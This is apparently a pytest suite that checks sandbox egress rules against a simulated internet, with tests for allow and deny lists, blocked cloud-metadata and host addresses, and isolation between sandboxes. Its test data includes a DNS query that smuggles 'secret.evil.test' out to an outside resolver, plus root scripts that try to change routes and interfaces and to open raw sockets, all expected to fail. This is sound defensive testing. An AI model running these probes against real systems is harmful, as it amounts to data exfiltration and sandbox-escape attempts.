"""Egress policy enforced in the kernel, proved with real sandboxes against a fake internet.

Every probe runs inside a sandbox as its root (`conftest.probe`): programs that ignore any
proxy settings, on TCP ports other than 80/443 and over UDP.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from fake_internet import (
    DNS,
    DOT_PORT,
    METADATA,
    OTHER,
    TCP_ECHO_PORT,
    UDP_ECHO_PORT,
    UPLINK_PEER,
    WEB,
    WEB_2,
    FakeInternet,
)
from sandbox_probe import API_KEY, probe, probe_async

pytestmark = pytest.mark.timeout(180)

MakeSandbox = Callable[..., Any]


def everything_on(host: str) -> list[tuple[str, str, int]]:
    return [
        ("tcp", host, 80),
        ("tcp", host, 8080),
        ("tcp", host, 9000),
        ("tcp", host, TCP_ECHO_PORT),
        ("udp", host, UDP_ECHO_PORT),
    ]


def test_allowed_cidr_is_reachable_on_every_tcp_port_and_udp(net_sandbox: MakeSandbox) -> None:
    sbx = net_sandbox(network={"allow_out": ["198.51.100.0/24"]})
    seen = probe(sbx, everything_on(WEB) + everything_on(OTHER))
    assert all(seen[t] for t in everything_on(WEB)), seen
    assert not any(seen[t] for t in everything_on(OTHER)), seen


def test_denied_cidr_is_unreachable_on_every_port(net_sandbox: MakeSandbox) -> None:
    sbx = net_sandbox(network={"deny_out": ["203.0.113.0/24"]})
    seen = probe(sbx, everything_on(WEB) + everything_on(OTHER))
    assert all(seen[t] for t in everything_on(WEB)), seen
    assert not any(seen[t] for t in everything_on(OTHER)), seen


def test_deny_wins_over_allow(net_sandbox: MakeSandbox) -> None:
    sbx = net_sandbox(
        network={"allow_out": ["198.51.100.0/24", WEB_2], "deny_out": [f"{WEB_2}/32"]}
    )
    seen = probe(sbx, everything_on(WEB) + everything_on(WEB_2))
    assert all(seen[t] for t in everything_on(WEB)), seen
    assert not any(seen[t] for t in everything_on(WEB_2)), seen


def test_no_internet_access_blocks_everything(
    net_sandbox: MakeSandbox, fake_internet: FakeInternet
) -> None:
    sbx = net_sandbox(allow_internet_access=False)
    before = fake_internet.seen()
    seen = probe(sbx, everything_on(WEB) + everything_on(OTHER) + [("tcp", DNS, 53)])
    assert not any(seen.values()), seen
    assert fake_internet.seen() == before  # not even a SYN was answered by a server


def test_e2b_deny_all_allow_some_idiom(net_sandbox: MakeSandbox) -> None:
    """`denyOut: [0.0.0.0/0]` sets the default to deny; `allowOut` entries still pass."""
    sbx = net_sandbox(network={"allow_out": [WEB], "deny_out": ["0.0.0.0/0"]})
    seen = probe(sbx, [("tcp", WEB, 80), ("udp", WEB, UDP_ECHO_PORT), ("tcp", WEB_2, 80)])
    assert seen == {
        ("tcp", WEB, 80): True,
        ("udp", WEB, UDP_ECHO_PORT): True,
        ("tcp", WEB_2, 80): False,
    }


def test_direct_ip_access_to_a_host_outside_the_allowlist_fails(
    net_sandbox: MakeSandbox, fake_internet: FakeInternet
) -> None:
    sbx = net_sandbox(network={"allow_out": [f"{WEB}/32"]})
    seen = probe(sbx, everything_on(WEB_2) + [("tcp", WEB, 80)])
    assert seen.pop(("tcp", WEB, 80)) is True
    assert not any(seen.values()), seen
    assert "from 10.88." not in "".join(
        line for line in fake_internet.seen().splitlines() if line.startswith(f"tcp {WEB_2}")
    )


def test_operator_always_deny_beats_allow_all(net_sandbox: MakeSandbox) -> None:
    """169.254.0.0/16 (cloud metadata) and the uplink peer (the host side of the uplink,
    where a host service listens on every address) stay unreachable even with allowOut
    0.0.0.0/0."""
    sbx = net_sandbox(network={"allow_out": ["0.0.0.0/0"]})
    seen = probe(
        sbx,
        [("tcp", WEB, 80)] + everything_on(METADATA) + everything_on(UPLINK_PEER),
    )
    assert seen.pop(("tcp", WEB, 80)) is True
    assert not any(seen.values()), seen


def test_dns_to_any_resolver_but_the_gateway_is_blocked(
    net_sandbox: MakeSandbox, fake_internet: FakeInternet
) -> None:
    sbx = net_sandbox(allow_internet_access=True)
    query = (
        "import socket,struct;"
        "q=struct.pack('>HHHHHH',7,256,1,0,0,0)+b'\\x06secret\\x04evil\\x04test\\x00'"
        "+struct.pack('>HH',1,1);"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1.5);"
        f"s.sendto(q,('{DNS}',53));"
        "print(len(s.recv(512)))"
    )
    udp = sbx.commands.run(f'python3 -c "{query}" || echo blocked', user="root", timeout=30)
    assert "blocked" in udp.stdout
    seen = probe(sbx, [("tcp", DNS, 53), ("tcp", WEB, DOT_PORT), ("tcp", WEB, 80)])
    assert seen == {("tcp", DNS, 53): False, ("tcp", WEB, DOT_PORT): False, ("tcp", WEB, 80): True}
    log = fake_internet.seen()
    assert "secret.evil.test" not in log
    assert f"tcp {WEB}:{DOT_PORT}" not in log


_LISTEN = """
import socket, threading
t = socket.socket()
t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("0.0.0.0", 8000))
t.listen()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("0.0.0.0", 8001))
def echo():
    while True:
        data, peer = u.recvfrom(100)
        u.sendto(data, peer)
threading.Thread(target=echo, daemon=True).start()
while True:
    c, _ = t.accept()
    c.sendall(b"hi")
    c.close()
"""


def test_sandboxes_cannot_reach_each_other(net_sandbox: MakeSandbox) -> None:
    a = net_sandbox(allow_internet_access=True)
    b = net_sandbox(allow_internet_access=True)
    address_of_b = b.commands.run(
        'python3 -c "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);'
        f"s.connect(('{WEB}',9));print(s.getsockname()[0])\"",
        user="root",
    ).stdout.strip()
    assert address_of_b.startswith("10.88.")
    b.commands.run(f"python3 -c '{_LISTEN}'", user="root", background=True)
    time.sleep(0.5)
    seen = probe(a, [("tcp", address_of_b, 8000), ("udp", address_of_b, 8001), ("tcp", WEB, 80)])
    assert seen == {
        ("tcp", address_of_b, 8000): False,
        ("udp", address_of_b, 8001): False,
        ("tcp", WEB, 80): True,
    }
    # b itself reaches its own listeners: the probes' failure is the network's doing.
    own = [("tcp", address_of_b, 8000), ("udp", address_of_b, 8001)]
    assert all(probe(b, own).values())


def test_host_services_and_the_server_api_are_unreachable(
    net_sandbox: MakeSandbox, network_server: Any
) -> None:
    sbx = net_sandbox(allow_internet_access=True)
    api_port = network_server.port
    seen = probe(
        sbx,
        [
            ("tcp", "127.0.0.1", api_port),  # the server API: on the host's loopback
            ("tcp", "10.88.0.1", api_port),  # the gateway address
            ("tcp", "10.88.0.1", 22),
            ("tcp", "10.88.0.1", 15001),  # the SNI proxy, dialled directly
            ("tcp", UPLINK_PEER, 80),  # the uplink side: where the host would be
            ("udp", UPLINK_PEER, UDP_ECHO_PORT),
            ("tcp", WEB, 80),
        ],
    )
    assert seen.pop(("tcp", WEB, 80)) is True
    assert not any(seen.values()), seen


def test_policy_update_applies_to_a_running_sandbox(
    net_sandbox: MakeSandbox, network_server: Any
) -> None:
    sbx = net_sandbox(allow_internet_access=True)
    targets = [("tcp", WEB, TCP_ECHO_PORT), ("udp", OTHER, UDP_ECHO_PORT)]
    assert all(probe(sbx, targets).values())

    sbx.update_network({"deny_out": ["0.0.0.0/0"], "allow_internet_access": False})
    assert not any(probe(sbx, targets).values())
    info = sbx.get_info()
    assert info.allow_internet_access is False

    sbx.update_network({"allow_out": ["203.0.113.0/24"]})
    assert probe(sbx, targets) == {targets[0]: False, targets[1]: True}

    detail = httpx.get(
        f"{network_server.url}/sandboxes/{sbx.sandbox_id}", headers={"X-API-KEY": API_KEY}
    ).json()
    assert detail["network"] == {"allowOut": ["203.0.113.0/24"], "denyOut": []}
    assert detail["allowInternetAccess"] is True


def test_bad_network_body_is_a_400_naming_the_key(
    net_sandbox: MakeSandbox, network_server: Any
) -> None:
    sbx = net_sandbox()
    answer = httpx.put(
        f"{network_server.url}/sandboxes/{sbx.sandbox_id}/network",
        headers={"X-API-KEY": API_KEY},
        json={"allowOut": ["not a host!"]},
    )
    assert answer.status_code == 400
    assert "allowOut" in answer.json()["message"]
    missing = httpx.put(
        f"{network_server.url}/sandboxes/nosuchsandbox/network",
        headers={"X-API-KEY": API_KEY},
        json={},
    )
    assert missing.status_code == 404


_NET_ADMIN = r"""
import errno, fcntl, socket, struct
out = []
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def attempt(name, fn):
    try:
        fn()
        out.append(name + ":allowed")
    except OSError as e:
        out.append(name + ":" + errno.errorcode.get(e.errno, str(e.errno)))
# SIOCSIFADDR eth0 = 10.88.200.200
attempt("set-address", lambda: fcntl.ioctl(s, 0x8916, struct.pack("16sH2s4s8x", b"eth0",
    socket.AF_INET, b"\0\0", socket.inet_aton("10.88.200.200"))))
# SIOCSIFFLAGS eth0 down
attempt("link-down", lambda: fcntl.ioctl(s, 0x8914, struct.pack("16sH22x", b"eth0", 0)))
def netlink(kind, flags, body):
    n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    n.bind((0, 0))
    n.send(struct.pack("=IHHII", 16 + len(body), kind, 1 | 4 | flags, 1, 0) + body)
    reply = n.recv(4096)
    code = struct.unpack_from("=i", reply, 16)[0]
    if code:
        raise OSError(-code, "netlink")
# RTM_NEWLINK dummy "x0"
name = struct.pack("=HH", 7, 3) + b"x0\0" + b"\0"
kind = struct.pack("=HH", 9, 1) + b"dummy\0" + b"\0\0\0"
info = struct.pack("=HH", 4 + len(kind), 18 | 0x8000) + kind
link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + name + info
attempt("add-link", lambda: netlink(16, 0x400 | 0x200, link))
# RTM_NEWROUTE 1.2.3.0/24 dev eth0 (oif index from /sys)
oif = int(open("/sys/class/net/eth0/ifindex").read())
rt = struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 4, 253, 1, 0)
rt += struct.pack("=HH", 8, 1) + socket.inet_aton("1.2.3.0") + struct.pack("=HHI", 8, 4, oif)
attempt("add-route", lambda: netlink(24, 0x400 | 0x200, rt))
attempt("raw-socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP))
print(" ".join(out))
"""


def test_sandbox_root_cannot_change_its_network(net_sandbox: MakeSandbox) -> None:
    sbx = net_sandbox(allow_internet_access=True)
    result = sbx.commands.run(f"python3 -c '{_NET_ADMIN}'", user="root", timeout=30)
    assert result.stdout.split() == [
        "set-address:EPERM",
        "link-down:EPERM",
        "add-link:EPERM",
        "add-route:EPERM",
        "raw-socket:EPERM",
    ]
    assert probe(sbx, [("tcp", WEB, 80)]) == {("tcp", WEB, 80): True}


def test_operator_default_deny(
    make_network_server: Callable[..., Any], sdk_to: Callable[[Any], None]
) -> None:
    from e2b import Sandbox

    server = make_network_server("--default-egress", "deny")
    sdk_to(server)
    quiet = Sandbox.create(timeout=60)
    allowed = Sandbox.create(timeout=60, allow_internet_access=True)
    try:
        assert probe(quiet, [("tcp", WEB, 80)]) == {("tcp", WEB, 80): False}
        assert quiet.get_info().allow_internet_access is False
        assert probe(allowed, [("tcp", WEB, 80)]) == {("tcp", WEB, 80): True}
    finally:
        quiet.kill()
        allowed.kill()


async def test_async_sdk_no_internet_and_update(
    network_server: Any, sdk_to: Callable[[Any], None]
) -> None:
    from e2b import AsyncSandbox

    sdk_to(network_server)
    sbx = await AsyncSandbox.create(timeout=60, allow_internet_access=False)
    try:
        assert await probe_async(sbx, [("tcp", WEB, 80)]) == {("tcp", WEB, 80): False}
        await sbx.update_network({"allow_out": [WEB]})
        assert await probe_async(sbx, [("tcp", WEB, 80)]) == {("tcp", WEB, 80): True}
    finally:
        await sbx.kill()


_HOLD_OPEN = f"""
import os, socket, time
s = socket.create_connection(("{WEB}", {TCP_ECHO_PORT}), timeout=5)
s.sendall(b"one")
print(s.recv(10).decode(), flush=True)
while not os.path.exists("/tmp/go"):
    time.sleep(0.02)
s.settimeout(2)
try:
    s.sendall(b"two")
    print(s.recv(10).decode() or "closed")
except OSError as exc:
    print("cut", type(exc).__name__)
"""


def test_policy_update_cuts_open_connections_it_denies(net_sandbox: MakeSandbox) -> None:
    sbx = net_sandbox(allow_internet_access=True)
    held = sbx.commands.run(f"python3 -c '{_HOLD_OPEN}'", user="root", background=True)
    time.sleep(0.5)
    sbx.update_network({"allow_out": [OTHER]})
    sbx.commands.run("touch /tmp/go", user="root")
    result = held.wait()
    assert result.stdout.split()[0] == "one"
    assert result.stdout.split()[1] == "cut", result.stdout


def test_policy_update_keeps_open_connections_it_still_allows(net_sandbox: MakeSandbox) -> None:
    sbx = net_sandbox(allow_internet_access=True)
    held = sbx.commands.run(f"python3 -c '{_HOLD_OPEN}'", user="root", background=True)
    time.sleep(0.5)
    sbx.update_network({"allow_out": [WEB]})
    sbx.commands.run("touch /tmp/go", user="root")
    assert held.wait().stdout.split() == ["one", "two"]
